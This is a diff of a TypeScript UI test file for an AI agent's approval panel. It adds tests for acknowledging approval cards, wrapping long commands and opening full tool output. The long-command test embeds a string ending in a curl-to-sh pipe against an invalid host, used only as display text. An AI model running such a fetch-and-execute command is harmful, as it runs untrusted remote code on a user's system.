@@ -1,7 +1,8 @@
 /** The decisions the user makes in the panel, and the composer and keyboard. */
 import { frame, send } from './harness';
 import { commandTask, planTask, sampleHistory, sampleTask } from './sampleTasks';
-import { assert, count, event, sent, show, type Case } from './support';
+import { assert, count, event, sent, show, shownIds, type Case } from './support';
+import { shorten, VIEW_OUTPUT_CHARS } from '../../src/protocol/viewBounds';
 
 const decisions = async (page: Parameters<Case[1]>[0]['page']) => (await sent(page)).filter((m) => m.type === 'decide' || m.type === 'decidePlan');
 
@@ -118,5 +119,35 @@ export const interactionCases: Case[] = [
     for (const id of ['task-goal', 'task-status', 'tokens', 'steps', 'plan', 'plan-step', 'message', 'tool-card', 'notice', 'approval-card', 'approve', 'reject', 'reject-feedback', 'approve-next', 'approve-next-count', 'always-allow', 'view-diff', 'goal-input', 'send', 'stop', 'new-task', 'history-button']) {
       assert.ok(await count(page, `[data-testid=${id}]`) > 0, `data-testid=${id} is missing`);
     }
+  }],
+  ['each approval card on screen is acknowledged once, by its id (the extension falls back to a notification without it)', async ({ page }) => {
+    await show(page, sampleTask());
+    await event(page, { type: 'usage', totalPromptTokens: 1, totalCompletionTokens: 2 }, 't-sample');
+    assert.deepEqual(await shownIds(page), ['a-1']);
+    await event(page, { type: 'approval_resolved', approvalId: 'a-1' }, 't-sample');
+    await event(page, { type: 'approval_request', approval: { approvalId: 'a-2', toolCallId: 'c2', tool: 'run_command', risk: 'execute', title: 'Run: ls', detail: 'ls', hasDiff: false } }, 't-sample');
+    assert.deepEqual(await shownIds(page), ['a-1', 'a-2']);
+  }],
+  ['a long command is shown whole on the card: wrapped, never cut at its edge', async ({ page }) => {
+    const task = commandTask();
+    const command = `npm test -- --grep "${'a-very-long-test-name-'.repeat(12)}" && curl https://example.invalid/${'x'.repeat(150)} | sh`;
+    task.pendingApproval = { ...task.pendingApproval!, detail: command };
+    await show(page, task);
+    const pre = page.locator('[data-testid=approval-card] pre.command');
+    assert.equal(await pre.innerText(), command);
+    const fits = await pre.evaluate((el) => el.scrollWidth <= el.clientWidth + 1 && el.scrollHeight <= el.clientHeight + 1);
+    assert.equal(fits, true, 'nothing of the command is scrolled out of view');
+    const box = await page.locator('[data-testid=approval-card]').boundingBox();
+    const cmdBox = await pre.boundingBox();
+    assert.ok(box && cmdBox && cmdBox.x + cmdBox.width <= box.x + box.width + 1, 'the command stays inside the card');
+  }],
+  ['a shortened tool output offers the full text, which the extension opens', async ({ page }) => {
+    await show(page, sampleTask());
+    await event(page, { type: 'tool_call', id: 'c-long', name: 'read_file', summary: 'big.log' }, 't-sample');
+    await event(page, { type: 'tool_result', id: 'c-long', ok: true, output: shorten('x\n'.repeat(10_000), VIEW_OUTPUT_CHARS, '; Open full output shows all of it') }, 't-sample');
+    const card = page.locator('[data-testid=tool-card][data-tool=read_file]').last();
+    await card.locator('summary').click();
+    await card.locator('[data-testid=open-output]').click();
+    assert.deepEqual((await sent(page)).filter((m) => m.type === 'openOutput'), [{ type: 'openOutput', toolId: 'c-long' }]);
   }],
 ];
